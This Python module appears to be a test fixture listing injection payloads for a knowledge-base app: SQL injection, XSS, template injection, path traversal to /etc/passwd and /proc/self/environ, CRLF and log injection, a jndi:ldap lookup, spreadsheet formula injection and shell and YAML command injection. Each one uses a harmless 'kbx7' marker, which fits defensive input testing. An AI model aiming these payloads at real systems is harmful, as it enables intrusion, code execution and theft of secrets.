"""What is injected: words that are something else to an engine, a browser, a shell, a log or a
spreadsheet.
"""

from __future__ import annotations

from typing import Final

#: Stands in what would run; whoever reads it where it may run has been reached.
MARK: Final = "kbx7"
#: What templates and shells make of the sum in a payload.
SUM: Final = "7*19181"
PRODUCT: Final = "134267"

_SQL: Final = (
    "' OR '1'='1",
    "'; DROP TABLE document; --",
    '" OR ""="',
    "1 UNION SELECT sql FROM sqlite_master",
    "') OR 1=1 --",
    "x' AND randomblob(900000000) --",
    "1; ATTACH DATABASE '/tmp/kbx7.db' AS x; --",
    "1 AND load_extension('kbx7')",
    "%' ESCAPE '\\",
    "_%*?",
    "2) OR visibility<9 --",
)
_SEARCH: Final = (
    *(
        "text:[a TO z]",
        "title:*",
        '"没有闭合',
        "((((((((((",
        "a AND OR NOT b",
        "+-+-+-",
        "/.*.*.*.*/",
        "客户^1e999",
    ),
    *(
        "客户~999999",
        "kbx7:测试",
        "NEAR(客户 名单, 99999)",
        "\\",
        "IN [客户 名单]",
        "{a TO *}",
        "法院:",
        "-",
        '-"',
        "OR",
    ),
    *("NOT NOT NOT", "* *", "第条第条第", "（）号", "：：：", '""""""""'),
)
_BROWSER: Final = (
    "<script>kbx7()</script>",
    '"><img src=x onerror=kbx7()>',
    "'><svg onload=kbx7()>",
    '" onmouseover="kbx7()" x="',
    "' autofocus onfocus='kbx7()",
    "javascript:kbx7()",
    "JaVaScRiPt&colon;kbx7()",
    "data:text/html,<script>kbx7()</script>",
    "</title><script>kbx7()</script>",
    "</textarea><script>kbx7()</script>",
    "--><script>kbx7()</script>",
    "<iframe srcdoc='&lt;script&gt;kbx7()&lt;/script&gt;'>",
    "<base href=//kbx7.example>",
    "<meta http-equiv=refresh content=0;url=//kbx7.example>",
    "<form action=//kbx7.example><input type=submit>",
    "<math><mtext><table><mglyph><style><img src=x onerror=kbx7()>",
    "&lt;script&gt;kbx7()&lt;/script&gt;",
    "＜script＞kbx7()＜/script＞",
    "<scr\x00ipt>kbx7()</script>",
    "+ADw-script+AD4-kbx7()+ADw-/script+AD4-",
    "//kbx7.example/%2f..",
    "</script><script>kbx7()</script>",
    "\u2028kbx7()",
)
_TEMPLATES: Final = (
    f"{{{{{SUM}}}}}",
    f"${{{SUM}}}",
    f"<%= {SUM} %>",
    f"#{{{SUM}}}",
    "{% import os %}{{ os.popen('touch kbx7') }}",
    "{{config}}{{self}}{{request}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    f"$(({SUM}))",
)
_PATHS: Final = (
    "../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "..\\..\\..\\etc\\passwd",
    "../kb.sqlite3",
    "../../kb/settings.py",
    "%00",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "/proc/self/environ",
)
_LINES: Final = (
    "x\r\nX-Kbx7: 1\r\n\r\n<script>kbx7()</script>",
    "x\nSet-Cookie: kbx7=1",
    "嘊嘍X-Kbx7: 1",
    "x\n2099-01-01 00:00:00,000 INFO web.middleware kbx7",
    "kbx7 %s%s%n%d{0}",
    "${jndi:ldap://127.0.0.1/kbx7}",
    "\x1b[31mkbx7\x1b]0;kbx7\x07",
    "x\r\n\r\nGET /kbx7 HTTP/1.1\r\nHost: kbx7.example\r\n\r\n",
)
_SHEETS: Final = (
    *(
        '=HYPERLINK("http://kbx7.example","x")',
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        " =1+1",
    ),
    *("=cmd|' /C calc'!A0", "＝1+1", '"=1+1', ";=1+1", "'=1+1"),
)
_SHELL: Final = (
    *(
        ";touch kbx7",
        "$(touch kbx7)",
        "`touch kbx7`",
        "|touch kbx7",
        "& touch kbx7 &",
        "!touch kbx7",
    ),
    *(
        "!!python/object/apply:os.system [touch kbx7]",
        "__import__('os').system('touch kbx7')",
    ),
)
_ODD: Final = (
    *(
        "\x00kbx7",
        "kbx7\ud800",
        "\u202ekbx7\u2066",
        "\ufeffkbx7",
        "测" * 3000,
        "９" * 40,
        "9" * 400,
        "-1",
        "0x10",
    ),
    *(
        "1e9",
        "٣",
        "NaN",
        "1_000",
        "+1",
        " 1",
        "null",
        "true",
        "[]",
        "{}",
        "\U0010ffff\ufffe",
        "e\u0301" * 200,
    ),
)

PAYLOADS: Final[tuple[str, ...]] = (
    *(
        *_SQL,
        *_SEARCH,
        *_BROWSER,
        *_TEMPLATES,
        *_PATHS,
        *_LINES,
        *_SHEETS,
        *_SHELL,
        *_ODD,
    ),
)
